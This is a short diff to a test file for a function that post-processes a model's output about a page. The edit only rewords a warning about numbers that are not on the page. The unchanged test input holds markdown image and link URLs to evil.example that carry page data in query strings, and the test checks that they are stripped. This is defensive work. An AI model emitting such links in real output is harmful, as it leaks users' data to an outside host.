@@ -77,7 +77,7 @@ describe("a model's work on a page", () => {
     expect(await finish("It has 52,300 lamps since 1987.")).toEqual({
       output: "It has 52,300 lamps since 1987.",
       problem: null,
-      warning: "Numbers in the output that are not on the page: 52,300.",
+      warning: "The output has numbers that are not on the page: 52,300.",
     });
     const stolen = await finish("Done. ![x](https://evil.example/?d=Ada) [more](https://evil.example/?d=1987)");
     expect(stolen).toMatchObject({ output: "Done. x more", warning: expect.stringContaining("were left out") });
